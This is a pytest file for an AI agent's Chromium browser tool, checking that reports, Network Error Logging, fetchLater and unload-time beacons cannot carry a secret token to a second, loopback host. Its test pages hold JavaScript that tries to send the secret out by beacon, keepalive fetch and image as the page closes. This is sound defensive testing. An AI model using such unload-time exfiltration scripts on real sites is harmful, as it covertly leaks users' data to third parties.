"""What Chromium sends for a page on its own, past the route hook: reports of the Reporting API (CSP violations,
deprecations, interventions) and of Network Error Logging to an endpoint the page's server names in a header,
``fetchLater()`` requests sent once the page is gone, and whatever a page's handlers of its going away send (a
beacon, a keepalive fetch, an image) as the agent navigates elsewhere, follows a link, closes the browser, or the
page removes a frame. None reaches the other host; what a page sends while it lives (a beacon, an ``<a ping>``)
still passes the hook and arrives. Real Chromium through gofer's pool and flags, https servers on 127.0.0.1 with a
certificate made here (the other host is ``localhost``)."""

from __future__ import annotations

import asyncio
import base64
import datetime
import hashlib
import ipaddress
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from playwright.async_api import BrowserContext, Request, Route

from gofer.computer.browser import BrowserPool, pool
from gofer.computer.browser.routing import Router
from gofer.tools.base import ToolContext

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "site"))
from harness import call, make_ctx, page_eval, ref, settings_for
from recording_server import RecordingServer

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

SECRET = "tk5f1e9a0b7c3d2e4f"
_SETTLE = 2.0
"""Seconds given to Chromium to send what it would (reports go out 100 ms after they are made here)."""


def _certificate(folder: Path) -> tuple[Path, Path, str]:
    """A self-signed certificate for 127.0.0.1 and localhost: (cert, key, base64 sha256 of its public key)."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "gofer test")])
    now = datetime.datetime.now(datetime.UTC)
    names = x509.SubjectAlternativeName([x509.DNSName("localhost"), x509.IPAddress(ipaddress.ip_address("127.0.0.1"))])
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=2)).add_extension(names, critical=False)
            .sign(key, hashes.SHA256()))
    cert_file, key_file = folder / "cert.pem", folder / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return cert_file, key_file, base64.b64encode(hashlib.sha256(spki).digest()).decode()


class _TrustingPool(BrowserPool):
    """gofer's pool whose contexts accept the test's certificate (the router's own fetches too)."""

    async def new_context(self, session_id: str, **options: Any) -> BrowserContext:
        return await super().new_context(session_id, ignore_https_errors=True, **options)


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    return _certificate(tmp_path_factory.mktemp("tls"))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browsers(home: Path, certificate: tuple[Path, Path, str]) -> AsyncIterator[BrowserPool]:
    """gofer's Chromium with its own flags, plus: the test certificate trusted (so NEL and the reports' endpoints
    count as secure), reports sent at once, and no local-network-access check (the other host here is the
    loopback; a real one is not, so gofer's own measures must stop what it gets, not that check)."""
    extra = [f"--ignore-certificate-errors-spki-list={certificate[2]}", "--short-reporting-delay",
             "--disable-features=LocalNetworkAccessChecks"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pool, "CHROMIUM_FLAGS", [*pool.CHROMIUM_FLAGS, *extra])
        p = _TrustingPool(settings_for(home))
        await p.browser()
    yield p
    await p.aclose()


@pytest.fixture
def servers(certificate: tuple[Path, Path, str]) -> Iterator[tuple[RecordingServer, RecordingServer]]:
    """The page's site (127.0.0.1) and another host (localhost) that records what reaches it."""
    site, other = RecordingServer(tls=certificate[:2]), RecordingServer(tls=certificate[:2], host="localhost")
    with site.running(), other.running():
        yield site, other


@pytest.fixture
def hook_saw(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every request the route hook was asked about (``METHOD URL``)."""
    seen: list[str] = []
    handle = Router.handle

    async def spy(self: Router, route: Route, request: Request) -> None:
        seen.append(f"{request.method} {request.url}")
        await handle(self, route, request)

    monkeypatch.setattr(Router, "handle", spy)
    return seen


@pytest_asyncio.fixture(loop_scope="module")
async def tool_ctx(browsers: BrowserPool, home: Path, tmp_path: Path) -> AsyncIterator[ToolContext]:
    c = make_ctx(browsers, tmp_path / "ws", settings_for(home), session_id=f"t-{tmp_path.name}")
    yield c
    assert c.computer is not None
    await c.computer.aclose()


_REPORTING = """<html><head><title>Reports</title></head><body><h1>Reports</h1><p id="seen">reports:</p>
<img src="https://blocked.invalid/x.png?d={secret}">
<script>
new ReportingObserver(rs => {{ for (const r of rs) document.getElementById('seen').textContent += ' ' + r.type; }},
                      {{buffered: true}}).observe();
fetch('/data?d={secret}');
const x = new XMLHttpRequest(); x.open('GET', '/sync', false); x.send();
navigator.vibrate(100);
if (typeof fetchLater === 'function') fetchLater('{other}/later?d={secret}');
</script></body></html>"""


async def test_reports_network_error_logging_and_fetch_later_reach_no_other_host(
    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer], hook_saw: list[str]
) -> None:
    site, other = servers
    site.headers = {  # on every answer of the site: its document's endpoints, a NEL policy, a CSP
        "Reporting-Endpoints": f'default="{other.url}/reports", csp="{other.url}/csp"',
        "Report-To": f'{{"group": "nel", "max_age": 3600, "endpoints": [{{"url": "{other.url}/nel"}}]}}',
        "NEL": '{"report_to": "nel", "max_age": 3600, "success_fraction": 1.0, "failure_fraction": 1.0}',
        "Content-Security-Policy": "img-src 'self'; report-to csp",
    }
    site.pages["/page"] = _REPORTING.format(secret=SECRET, other=other.url)
    await call(tool_ctx, "browser_open", url=f"{site.url}/page")
    await call(tool_ctx, "browser_open", url=f"{site.url}/second?d={SECRET}")  # the first page is gone: fetchLater
    await asyncio.sleep(_SETTLE)
    assert [r for r in site.requests if r.startswith(f"GET /data?d={SECRET}")]  # NEL had a request to report
    assert not other.requests, other.requests
    assert not [s for s in hook_saw if s.split()[1].startswith(other.url)]
    assert await page_eval(tool_ctx, "typeof fetchLater") == "undefined"


async def test_the_page_still_makes_its_reports_for_itself(
    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer]
) -> None:
    """Reports are turned off for the network only: a page's ReportingObserver still gets them (ordinary pages that
    watch their own CSP or deprecations keep working)."""
    site, other = servers
    site.pages["/page"] = _REPORTING.format(secret=SECRET, other=other.url)
    site.page_headers["/page"] = {"Content-Security-Policy": "img-src 'self'"}
    result = await call(tool_ctx, "browser_open", url=f"{site.url}/page")
    for kind in ("csp-violation", "deprecation", "intervention"):
        assert kind in result.text, result.text


_LEAVING = """<html><head><title>Leaving</title></head><body><h1>Leaving</h1>
<a href="/next" ping="{other}/ping?d=alive">Next page</a>
<button onclick="navigator.sendBeacon('{other}/beacon?d=alive', 'b'); this.textContent = 'Sent'">Send</button>
<button onclick="document.querySelector('iframe').remove(); this.textContent = 'Removed'">Remove</button>
<iframe src="/child"></iframe>
<script>{send}</script></body></html>"""
_SEND = """for (const type of ['beforeunload', 'pagehide', 'unload', 'visibilitychange', 'pageswap']) {{
  addEventListener(type, () => {{
    const u = '{other}/' + type + '-{where}?d={secret}';
    navigator.sendBeacon(u + '&via=beacon', 'b');
    fetch(u + '&via=keepalive', {{method: 'POST', body: 'k', keepalive: true, mode: 'no-cors'}});
    fetch(u + '&via=fetch', {{method: 'POST', body: 'k', mode: 'no-cors'}});
    new Image().src = u + '&via=img';
  }});
}}"""


@pytest.mark.parametrize("how", ["navigation", "link", "close", "frame"])
async def test_what_a_page_sends_as_it_goes_away_reaches_no_other_host(
    tool_ctx: ToolContext, servers: tuple[RecordingServer, RecordingServer], hook_saw: list[str], how: str
) -> None:
    site, other = servers
    site.pages["/page"] = _LEAVING.format(other=other.url, send=_SEND.format(other=other.url, secret=SECRET,
                                                                            where="page"))
    site.pages["/child"] = f"<p>child</p><script>{_SEND.format(other=other.url, secret=SECRET, where='child')}</script>"
    site.page_headers.update({"/page": {}, "/child": {}})
    await call(tool_ctx, "browser_open", url=f"{site.url}/page")
    await call(tool_ctx, "browser_click", ref=ref(tool_ctx, "Send"))  # a beacon while the page lives is routed
    if how == "navigation":
        await call(tool_ctx, "browser_open", url=f"{site.url}/elsewhere")
    elif how == "link":
        await call(tool_ctx, "browser_click", ref=ref(tool_ctx, "Next page"))
    elif how == "frame":
        await call(tool_ctx, "browser_click", ref=ref(tool_ctx, "Remove"))
    else:
        assert tool_ctx.computer is not None
        await tool_ctx.computer.aclose()
    await asyncio.sleep(_SETTLE)
    assert not other.leaked(SECRET), other.leaked(SECRET)
    assert other.leaked("/beacon?d=alive") and f"POST {other.url}/beacon?d=alive" in hook_saw
    if how == "link":  # the link's ping, sent as the page navigates, is routed and arrives
        assert other.leaked("/ping?d=alive") and f"POST {other.url}/ping?d=alive" in hook_saw
